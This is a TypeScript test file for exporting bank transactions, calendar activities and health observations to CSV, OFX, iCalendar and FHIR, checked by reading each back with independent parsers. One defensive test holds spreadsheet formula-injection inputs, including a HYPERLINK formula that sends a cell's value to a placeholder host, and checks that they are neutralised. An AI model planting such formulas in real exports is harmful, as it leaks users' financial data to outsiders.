/**
 * The standard-format copies are read back by independent parsers: PapaParse for CSV, saxes
 * for OFX's XML, ical.js for iCalendar; the FHIR Bundle is checked against R4's shape rules
 * that matter to a reader (resource types, status codes, UCUM quantities).
 */
import ICAL from 'ical.js';
import Papa from 'papaparse';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { activitiesToICalendar, healthToFhirBundle, transactionsToCsv, transactionsToOfx, type StandardTransaction } from '../../src/bundle/index';
import { formatMinor, spreadsheetText } from '../../src/bundle/standard/transactions';
import { parseBankFile } from '../../src/importers/bank/index';

const rows: StandardTransaction[] = [
  { date: '2026-12-01', amountMinor: -12345, currency: 'DKK', text: 'Føtex Aarhus C', balanceMinor: 100000, pending: false, account: '1234' },
  { date: '2026-12-02', amountMinor: 250000, currency: 'DKK', text: 'Løn, "december"\nlinje 2', counterparty: 'Aarhus Kommune', account: '1234' },
  { date: '2026-12-03', amountMinor: -5, currency: 'DKK', text: 'Netto; Viby <& co>', pending: true, account: '1234' },
  { date: '2026-12-03', amountMinor: -500, currency: 'EUR', text: 'Café', account: '1234', sourceId: 'fit-9' },
];

describe('amounts', () => {
  it('are exact decimals of minor units', () => {
    expect(formatMinor(-12345, 'DKK')).toBe('-123.45');
    expect(formatMinor(5, 'DKK')).toBe('0.05');
    expect(formatMinor(-5, 'DKK')).toBe('-0.05');
    expect(formatMinor(0, 'DKK')).toBe('0.00');
    expect(formatMinor(1234, 'JPY')).toBe('1234');
    expect(formatMinor(9_007_199_254_740_991, 'DKK')).toBe('90071992547409.91');
  });
});

describe('CSV', () => {
  it('reads back with PapaParse, quotes and line breaks intact', () => {
    const csv = transactionsToCsv(rows);
    expect(csv.endsWith('\r\n')).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(csv.trimEnd(), { header: true, newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(4);
    expect(parsed.data[0]).toMatchObject({ date: '2026-12-01', amount: '-123.45', currency: 'DKK', balance: '1000.00', pending: 'false' });
    expect(parsed.data[1]!.text).toBe('Løn, "december"\nlinje 2');
    expect(parsed.data[2]!.pending).toBe('true');
  });

  it('in the Danish dialect opens as a Danish spreadsheet does: BOM, semicolons, decimal commas', () => {
    const csv = transactionsToCsv(rows, { dialect: 'danish' });
    expect(csv.startsWith('\uFEFFdate;value_date;amount;currency;text;counterparty;balance;pending;id;account;category\r\n')).toBe(true);
    expect(new TextEncoder().encode(csv).subarray(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1).trimEnd(), { header: true, delimiter: ';', newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.map((r) => r.amount)).toEqual(['-123,45', '2500,00', '-0,05', '-5,00']);
    expect(parsed.data[0]!.balance).toBe('1000,00');
    // A `;` inside a text is quoted; a `,` needs no quotes here.
    expect(parsed.data[2]!.text).toBe('Netto; Viby <& co>');
    expect(csv).toContain('"Netto; Viby <& co>"');
    expect(csv).toContain(';"Løn, ""december""\nlinje 2";');
    expect(parsed.data[1]!.text).toBe('Løn, "december"\nlinje 2');
    // The default is unchanged RFC 4180.
    expect(transactionsToCsv(rows)).toBe(transactionsToCsv(rows, { dialect: 'rfc4180' }));
    expect(transactionsToCsv(rows).startsWith('date,')).toBe(true);
    expect(() => transactionsToCsv(rows, { dialect: 'excel' as 'danish' })).toThrow(/options\.dialect/);
  });

  it('in the Danish dialect is read back by the vault\u2019s own bank importer with the same amounts in øre', () => {
    const booked = rows.filter((r) => r.currency === 'DKK');
    const bytes = new TextEncoder().encode(transactionsToCsv(booked, { dialect: 'danish' }));
    const statement = parseBankFile(bytes, {
      mapping: { delimiter: ';', hasHeader: true, date: 0, text: 4, amount: 2, balance: 6, dateStyle: 'YYYY-MM-DD', decimal: ',' },
      today: '2026-12-31',
    });
    expect(statement.issues).toEqual([]);
    expect(statement.transactions.map((t) => t.amountMinor)).toEqual(booked.map((t) => t.amountMinor));
    expect(statement.transactions.map((t) => t.date)).toEqual(booked.map((t) => t.date));
    expect(statement.transactions[0]!.text).toBe('Føtex Aarhus C');
  });

  it('keeps a spreadsheet from reading a text cell as a formula, number or date, and carries the category', () => {
    const texts = ['=HYPERLINK("http://x/?"&A1;"klik")', '+4512345678', '-5', '@SUM(A1)', '\tTAB', '00123', '1-2', '12:30', '50%', 'Føtex', 'Bolig 2', ''];
    const csv = transactionsToCsv(
      texts.map((text) => ({ date: '2026-12-01', amountMinor: 1, currency: 'DKK', text, category: '=1+1' })),
      { dialect: 'danish' },
    );
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1).trimEnd(), { header: true, delimiter: ';', newline: '\r\n' });
    expect(parsed.data.map((r) => r.text)).toEqual([...texts.slice(0, 9).map((t) => `'${t}`), 'Føtex', 'Bolig 2', '']);
    expect(parsed.data.map((r) => r.category)).toEqual(texts.map(() => "'=1+1"));
    expect(spreadsheetText('Netto')).toBe('Netto');
  });

  it('refuses rows it cannot write faithfully, naming them', () => {
    expect(() => transactionsToCsv([{ ...rows[0]!, amountMinor: 1.5 }])).toThrow(/transactions\[0\]\.amountMinor/);
    expect(() => transactionsToCsv([rows[0]!, { ...rows[0]!, date: '01-12-2026' }])).toThrow(/transactions\[1\]\.date/);
    expect(() => transactionsToCsv([{ ...rows[0]!, currency: 'kr' }])).toThrow(/currency/);
  });
});

describe('OFX', () => {
  it('is OFX 1.02 with a UTF-8 header and a body of closed elements: one statement per account and currency, booked rows only', () => {
    const ofx = transactionsToOfx(rows, { now: new Date('2026-12-05T10:00:00Z') });
    const [header, body] = ofx.split('\r\n\r\n') as [string, string];
    expect(header.split('\r\n')).toEqual([
      'OFXHEADER:100',
      'DATA:OFXSGML',
      'VERSION:102',
      'SECURITY:NONE',
      'ENCODING:UTF-8',
      'CHARSET:NONE',
      'COMPRESSION:NONE',
      'OLDFILEUID:NONE',
      'NEWFILEUID:NONE',
    ]);
    const text: Record<string, string[]> = {};
    const stack: string[] = [];
    const parser = new SaxesParser();
    parser.on('opentag', (t) => stack.push(t.name));
    parser.on('closetag', () => stack.pop());
    parser.on('text', (value) => {
      const name = stack[stack.length - 1];
      if (name && value.trim()) (text[name] ??= []).push(value);
    });
    parser.write(body).close();
    expect(text.CURDEF).toEqual(['DKK', 'EUR']);
    expect(text.TRNAMT).toEqual(['-123.45', '2500.00', '-5.00']);
    expect(text.TRNTYPE).toEqual(['DEBIT', 'CREDIT', 'DEBIT']);
    expect(text.MEMO).toContain('Café');
    expect(text.FITID).toContain('fit-9');
    expect(new Set(text.FITID).size).toBe(3);
    // The DKK statement's rows carry a balance; the EUR one's do not, so it states 0.00.
    expect(text.BALAMT).toEqual(['1000.00', '0.00']);
    expect(text.DTPOSTED).toEqual(['20261201120000', '20261202120000', '20261203120000']);
    expect(text.DTSERVER).toEqual(['20261205100000']);
    expect(text.NAME).toContain('Aarhus Kommune');
    expect(text.MEMO).toContain('Løn, "december" linje 2');
  });

  it('gives a row the same FITID in any file that holds it, whatever else the file holds', () => {
    const day: StandardTransaction[] = [
      { date: '2026-12-01', amountMinor: -100, currency: 'DKK', text: 'Kaffe' },
      { date: '2026-12-01', amountMinor: -100, currency: 'DKK', text: 'Kaffe' },
      { date: '2026-12-02', amountMinor: -4500, currency: 'DKK', text: 'Netto' },
    ];
    const ids = (list: StandardTransaction[]) => [...transactionsToOfx(list, { now: new Date() }).matchAll(/<FITID>([^<]+)</g)].map((m) => m[1]);
    const all = ids([{ date: '2026-11-30', amountMinor: 1, currency: 'DKK', text: 'x' }, ...day]);
    expect(new Set(all).size).toBe(4);
    expect(ids(day)).toEqual(all.slice(1));
    expect(ids(day.slice(2))).toEqual(all.slice(3));
  });

  it('writes no empty NAME or MEMO for a row without text, and is read back by the vault\u2019s own OFX importer', () => {
    const bare: StandardTransaction[] = [
      { date: '2026-12-01', amountMinor: -12345, currency: 'DKK', text: '' },
      { date: '2026-12-02', amountMinor: 250000, currency: 'DKK', text: 'Løn' },
    ];
    const ofx = transactionsToOfx(bare, { now: new Date('2026-12-05T10:00:00Z') });
    expect(ofx).not.toMatch(/<(NAME|MEMO)><\//);
    expect(ofx.match(/<NAME>/g)).toHaveLength(1);
    const statement = parseBankFile(new TextEncoder().encode(ofx), { today: '2026-12-31' });
    expect(statement.transactions.map((t) => [t.date, t.amountMinor])).toEqual([
      ['2026-12-01', -12345],
      ['2026-12-02', 250000],
    ]);
  });
});

describe('iCalendar', () => {
  it('reads back with ical.js: timed and all-day events, escaped text, folded lines', () => {
    const long = 'Møde om boligstøtte, med sagsbehandler; husk papirer '.repeat(3);
    const ics = activitiesToICalendar(
      [
        { id: 'a1', title: long, start: '2026-12-10T09:00:00.000Z', end: '2026-12-10T10:00:00+01:00', location: 'Rådhuset, Aarhus' },
        { id: 'a2', title: 'Frist: klage', start: '2026-12-20' },
      ],
      { now: new Date('2026-12-01T10:00:00Z'), name: 'Handlerum' },
    );
    for (const line of ics.split('\r\n')) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    const events = new ICAL.Component(ICAL.parse(ics)).getAllSubcomponents('vevent').map((c) => new ICAL.Event(c));
    expect(events.map((e) => e.uid)).toEqual(['a1@handlerum', 'a2@handlerum']);
    expect(events[0]!.summary).toBe(long);
    expect(events[0]!.location).toBe('Rådhuset, Aarhus');
    expect(events[0]!.startDate.toJSDate().toISOString()).toBe('2026-12-10T09:00:00.000Z');
    expect(events[0]!.endDate.toJSDate().toISOString()).toBe('2026-12-10T09:00:00.000Z');
    expect(events[1]!.startDate.isDate).toBe(true);
    expect(() => activitiesToICalendar([{ id: 'x', title: 'x', start: 'tomorrow' }], { now: new Date(), name: 'x' })).toThrow(/activities\[0\]\.start/);
  });
});

describe('FHIR', () => {
  it('is an R4 collection of Observations with UCUM quantities and components', () => {
    const bundle = healthToFhirBundle(
      [
        {
          id: 'obs-1',
          status: 'final',
          name: { da: 'Kropsvægt', en: 'Body weight' },
          code: { system: 'http://loinc.org', code: '29463-7' },
          category: 'vital-signs',
          effective: '2026-11-20T08:00:00+01:00',
          value: { number: 81.5, unit: 'kg' },
        },
        {
          id: 'bp-1',
          status: 'final',
          name: { da: 'Blodtryk', en: 'Blood pressure' },
          code: { system: 'http://loinc.org', code: '85354-9' },
          components: [
            { name: { da: 'Systolisk', en: 'Systolic' }, code: { system: 'http://loinc.org', code: '8480-6' }, value: { number: 120, unit: 'mm[Hg]' } },
            { name: { da: 'Diastolisk', en: 'Diastolic' }, code: { system: 'http://loinc.org', code: '8462-4' }, value: { number: 80, unit: 'mm[Hg]' } },
          ],
        },
        { id: 'note-1', status: 'preliminary', name: { da: 'Note', en: 'Note' }, code: {}, value: { text: 'ok' } },
      ],
      { now: new Date('2026-12-01T10:00:00Z') },
    ) as { resourceType: string; type: string; entry: { resource: Record<string, unknown> }[] };
    expect(bundle).toMatchObject({ resourceType: 'Bundle', type: 'collection' });
    const [weight, bp, note] = bundle.entry.map((e) => e.resource);
    expect(weight).toMatchObject({
      resourceType: 'Observation',
      status: 'final',
      valueQuantity: { value: 81.5, unit: 'kg', system: 'http://unitsofmeasure.org', code: 'kg' },
    });
    expect(weight!.code).toEqual({ coding: [{ system: 'http://loinc.org', code: '29463-7' }], text: 'Kropsvægt' });
    expect((bp!.component as unknown[]).length).toBe(2);
    expect(note).toMatchObject({ valueString: 'ok', code: { text: 'Note' } });
    expect(() => healthToFhirBundle([{ id: 'x y', status: 'final', name: { da: 'a', en: 'a' }, code: {} }], { now: new Date() })).toThrow(
      /observations\[0\]\.id/,
    );
    expect(() => healthToFhirBundle([{ id: 'x', status: 'done', name: { da: 'a', en: 'a' }, code: {} }], { now: new Date() })).toThrow(/status/);
  });
});
